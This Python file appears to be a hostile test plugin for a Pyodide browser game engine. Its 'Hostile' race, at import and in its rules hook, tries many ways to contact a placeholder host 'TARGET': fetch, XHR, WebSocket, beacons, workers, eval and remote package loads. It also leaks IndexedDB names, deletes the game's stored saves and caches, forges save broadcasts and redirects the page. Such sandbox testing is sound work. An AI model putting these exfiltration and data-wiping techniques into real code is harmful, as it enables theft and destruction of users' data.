"""A race that is an attack: at import and in its rules it tries whatever Python and JavaScript can try
to reach another server, what the page stores, and the page itself. Its description tells what it tried."""
import asyncio
import urllib.request

import js
import pyodide_js
from pyodide.ffi import to_js
from pyodide.http import open_url, pyfetch

from conquest.hooks import Trait

EVIL = "TARGET"
TRIED = []
PLAIN = {"dict_converter": js.Object.fromEntries}

# For a worker of the attack's own, where the engine's wrappers of fetch do not stand.
SCRIPT = """
const EVIL = "%s/nested-", first = !self.module;
const attempt = async (name, fn) => { try { await fn(EVIL + name); } catch {} };
attempt("fetch", url => fetch(url, { mode: "no-cors" }));
attempt("leak", async url =>
  fetch(url + "?" + (await indexedDB.databases()).map(({ name }) => name), { mode: "no-cors" }));
attempt("xhr", url => { const ask = new XMLHttpRequest(); ask.open("GET", url); ask.send(); });
attempt("websocket", url => new WebSocket(url.replace("http", "ws")));
attempt("eventsource", url => new EventSource(url));
attempt("import", url => import(url));
attempt("scripts", url => importScripts(url));
attempt("worker", url => new Worker(url));
attempt("data", url => new Worker(`data:text/javascript,fetch("${url}", { mode: "no-cors" })`));
attempt("font", url => new FontFace("evil", `url(${url})`).load());
attempt("transport", url => new WebTransport(url.replace("http:", "https:")).ready);
attempt("stun", async url => {
  const call = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + new URL(url).host }] });
  call.createDataChannel("evil");
  await call.setLocalDescription();
});
attempt("beacon", url => navigator.sendBeacon(url));
attempt("eval", url => eval(`fetch("${url}", { mode: "no-cors" })`));
attempt("drawer", () => indexedDB.deleteDatabase("marchlands"));
attempt("caches", async () => { for (const name of await caches.keys()) await caches.delete(name); });
attempt("files", async () =>
  (await navigator.storage.getDirectory()).getFileHandle("evil", { create: true }));
attempt("register", () => navigator.serviceWorker.register("sw.js"));
attempt("shared", url => new SharedWorker(url));
attempt("tabs", () =>
  new BroadcastChannel("marchlands.saves").postMessage({ from: "evil", id: 1, revision: 9e9 }));
""" % EVIL


def attempt(name, deed, *given):
    """Do it, whatever comes of it."""
    TRIED.append(name)
    try:
        deed(f"{EVIL}/{name}", *given)
    except BaseException:           # a guest stops at nothing
        pass


def web(name):
    """Something of the browser's, as its prototype has it: nobody's wrapper stands before it."""
    return lambda url, *more: getattr(js, name).new(url, *more)


def asked(url):
    """The plain old request."""
    request = js.XMLHttpRequest.new()
    request.open("GET", url, False)
    request.send()


def nested(url, **how):
    """A worker of its own, with a script of its own."""
    text = js.Blob.new(to_js([SCRIPT]), to_js({"type": "text/javascript"}, **PLAIN))
    js.Worker.new(js.URL.createObjectURL(text), to_js(how, **PLAIN))


def forged(url):
    """A word to whoever may be above."""
    js.parent.postMessage("evil", "*")


def moved(url):
    """Another page instead of this one."""
    js.location.href = url


def soon(work):
    """Start what Python would wait for."""
    asyncio.ensure_future(work)


def attack():
    """All of it."""
    attempt("fetch", lambda url: js.fetch(url, mode="no-cors"))
    attempt("real-fetch", lambda url: js.WorkerGlobalScope.prototype.fetch.call(js.self, url))
    attempt("xhr", asked)
    attempt("websocket", lambda url: web("WebSocket")(url.replace("http", "ws")))
    attempt("eventsource", web("EventSource"))
    attempt("worker", web("Worker"))
    attempt("scripts", lambda url: js.WorkerGlobalScope.prototype.importScripts.call(js.self, url))
    attempt("font", lambda url: js.FontFace.new("evil", f"url({url})").load())
    attempt("transport", lambda url: web("WebTransport")(url.replace("http:", "https:")))
    attempt("beacon", lambda url: js.navigator.sendBeacon(url))
    attempt("eval", lambda url: js.eval(f"fetch('{url}', {{ mode: 'no-cors' }})"))
    attempt("timeout", lambda url: js.setTimeout(f"fetch('{url}', {{ mode: 'no-cors' }})", 0))
    attempt("nested", nested)
    attempt("nested-module", lambda url: nested(url, type="module"))
    attempt("pyfetch", lambda url: soon(pyfetch(url)))
    attempt("open-url", open_url)
    attempt("urllib", urllib.request.urlopen)
    attempt("package", lambda url: pyodide_js.loadPackage(f"{url}-1.0-py3-none-any.whl"))
    attempt("drawer", lambda url: js.indexedDB.deleteDatabase("marchlands"))
    attempt("caches", lambda url: js.caches.delete("marchlands snapshots"))
    attempt("tabs", lambda url: js.BroadcastChannel.new("marchlands.saves").postMessage("evil"))
    attempt("forged", forged)
    attempt("moved", moved)
    attempt("open", lambda url: js.open(url))


class Hostile(Trait):
    """It says what it tried."""

    tokens, limit = 5, 10

    def reach(self, s, b):
        if "rules" not in TRIED:
            TRIED.append("rules")
            attack()
            Hostile.en = "Hostile", " ".join(TRIED)
        return set()


attack()
Hostile.en = "Hostile", " ".join(TRIED)
